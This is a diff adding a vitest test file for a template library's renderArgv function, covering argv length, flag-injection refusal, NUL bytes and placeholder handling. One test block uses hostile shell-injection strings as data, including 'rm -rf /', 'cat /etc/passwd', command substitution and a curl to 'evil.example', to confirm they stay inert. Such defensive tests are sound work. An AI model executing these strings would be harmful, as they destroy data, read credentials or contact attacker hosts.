@@ -1,0 +1,159 @@
+import { describe, expect, it } from 'vitest';
+import { parse, renderArgv, type Template, TmplError } from '../src/index';
+
+function thrown(fn: () => unknown): TmplError {
+  try {
+    fn();
+  } catch (error) {
+    if (error instanceof TmplError) return error;
+    throw error;
+  }
+  throw new Error('expected a TmplError');
+}
+
+function tpl(source: string): Template {
+  const result = parse(source);
+  if (!result.ok) throw new Error('parse failed');
+  return result.template;
+}
+
+describe('TM-14: renderArgv keeps argv length', () => {
+  it('TM-14: one string per element, strings and parsed templates alike', () => {
+    expect(
+      renderArgv(['git', tpl('log'), '-n', '{{n}}', '--grep={{q}}', '{{opt?}}'], { n: 5, q: 'a b' }),
+    ).toEqual(['git', 'log', '-n', '5', '--grep=a b', '']);
+  });
+
+  it('TM-14: an empty template list renders an empty argv', () => {
+    expect(renderArgv([], {})).toEqual([]);
+  });
+});
+
+describe('CP-31/CP-32: value-only substitution (each hostile value stays one element)', () => {
+  it.each([
+    '; rm -rf /',
+    '| cat /etc/passwd',
+    '$(whoami)',
+    '`id`',
+    '&& curl evil.example',
+    'a b c',
+    'line1\nline2',
+    `"quoted" 'single'`,
+    'back\\slash',
+    '*',
+    '',
+  ])('CP-32: %j stays one argument', (value) => {
+    expect(renderArgv(['jq', '{{filter}}', 'file.json'], { filter: value })).toEqual([
+      'jq',
+      value,
+      'file.json',
+    ]);
+  });
+});
+
+describe('TM-13/CP-34: a substituted value is never re-parsed', () => {
+  it('TM-13: placeholder syntax in a value reaches argv literally', () => {
+    expect(
+      renderArgv(['echo', '{{x}}', 'x={{x}}'], { x: '{{credential.gh}}', credential: { gh: 'S' } }),
+    ).toEqual(['echo', '{{credential.gh}}', 'x={{credential.gh}}']);
+  });
+});
+
+describe('D4: flag injection is refused', () => {
+  it.each(['-rf', '--config=/etc/x', '-', '--'])(
+    'D4: a whole element starting with a value %j is refused',
+    (value) => {
+      const error = thrown(() => renderArgv(['rm', '{{path}}'], { path: value }));
+      expect(error.code).toBe('flag_injection');
+      expect(error.index).toBe(1);
+      expect(error.path).toBe('path');
+    },
+  );
+
+  it('D4: the message', () => {
+    expect(() => renderArgv(['rm', '{{path}}'], { path: '-rf' })).toThrowErrorMatchingInlineSnapshot(
+      `[TmplError: argv element 1 would start with the value of path, which begins with "-" and would be read as an option; put a literal "--" element before it, or a literal prefix in the element.]`,
+    );
+  });
+
+  it('D4: an absent optional before the value does not hide it', () => {
+    expect(thrown(() => renderArgv(['rm', '{{a?}}{{b}}'], { b: '-rf' })).code).toBe('flag_injection');
+  });
+
+  it('D4: a literal -- element before the value allows it', () => {
+    expect(renderArgv(['rm', '--', '{{path}}'], { path: '-rf' })).toEqual(['rm', '--', '-rf']);
+    expect(renderArgv(['rm', tpl('--'), 'x', '{{path}}'], { path: '-rf' })).toEqual(['rm', '--', 'x', '-rf']);
+  });
+
+  it('D4: a -- that came from a value does not count', () => {
+    expect(thrown(() => renderArgv(['rm', 'x{{d}}', '{{path}}'], { d: '--', path: '-rf' })).code).toBe(
+      'flag_injection',
+    );
+  });
+
+  it('D4: a -- after the element does not help', () => {
+    expect(thrown(() => renderArgv(['rm', '{{path}}', '--'], { path: '-rf' })).code).toBe('flag_injection');
+  });
+
+  it('D4: literal flags and values after a literal prefix are fine', () => {
+    expect(
+      renderArgv(['ls', '--color={{c}}', '-{{n}}', 'x{{v}}'], { c: '-always', n: 'l', v: '-rf' }),
+    ).toEqual(['ls', '--color=-always', '-l', 'x-rf']);
+  });
+
+  it('D4: a value starting with - inside an element is fine when a literal starts it', () => {
+    expect(renderArgv(['grep', 'pattern:{{p}}'], { p: '-e' })).toEqual(['grep', 'pattern:-e']);
+  });
+
+  it('D4: a negative integer starting a whole element is refused like any other value', () => {
+    expect(thrown(() => renderArgv(['seq', '{{n}}'], { n: -3 })).code).toBe('flag_injection');
+  });
+});
+
+describe('NUL bytes are refused in argv', () => {
+  it('refuses a value holding NUL, naming the path and index', () => {
+    const error = thrown(() => renderArgv(['echo', 'a{{x}}'], { x: 'a\0b' }));
+    expect([error.code, error.path, error.index]).toEqual(['nul_byte', 'x', 1]);
+    expect(error.message).toMatchInlineSnapshot(
+      `"argv element 1: the value of x holds a NUL byte, which no process argument can carry; remove it from the value."`,
+    );
+  });
+
+  it('refuses NUL in literal text', () => {
+    const error = thrown(() => renderArgv(['echo', 'a\0b'], {}));
+    expect([error.code, error.path, error.index]).toEqual(['nul_byte', undefined, 1]);
+  });
+
+  it('checks NUL before flag injection for a value that has both', () => {
+    expect(thrown(() => renderArgv(['x', '{{v}}'], { v: '-\0' })).code).toBe('nul_byte');
+  });
+});
+
+describe('argv refuses what load should have caught', () => {
+  it('refuses {{untrusted …}} in argv (TM-25 at render time too)', () => {
+    const error = thrown(() => renderArgv(['echo', '{{untrusted event.body}}'], { event: { body: 'x' } }));
+    expect([error.code, error.index, error.path]).toEqual(['untrusted_in_argv', 1, 'event.body']);
+  });
+
+  it('throws invalid_template with the index and issues for a bad element', () => {
+    const error = thrown(() => renderArgv(['echo', 'ok', '{{if x}}'], {}));
+    expect([error.code, error.index, error.issues?.map((i) => i.code)]).toEqual([
+      'invalid_template',
+      2,
+      ['invalid_placeholder'],
+    ]);
+    expect(error.message).toMatchInlineSnapshot(
+      `"Template (argv element 2) does not parse: Invalid placeholder {{if x}}: found "if x"; expected one of {{path}}, {{path?}}, {{untrusted path}} or {{literal_open}} (there are no functions, filters or conditionals)."`,
+    );
+  });
+
+  it('CP-36: a missing required value throws unresolved with the index', () => {
+    const error = thrown(() => renderArgv(['echo', '{{x}}'], {}));
+    expect([error.code, error.path]).toEqual(['unresolved', 'x']);
+  });
+
+  it('accepts a Template from another copy of the package by re-parsing its source', () => {
+    const foreign: Template = { source: '{{x}}', parts: [], refs: () => [] };
+    expect(renderArgv([foreign], { x: 'v' })).toEqual(['v']);
+  });
+});
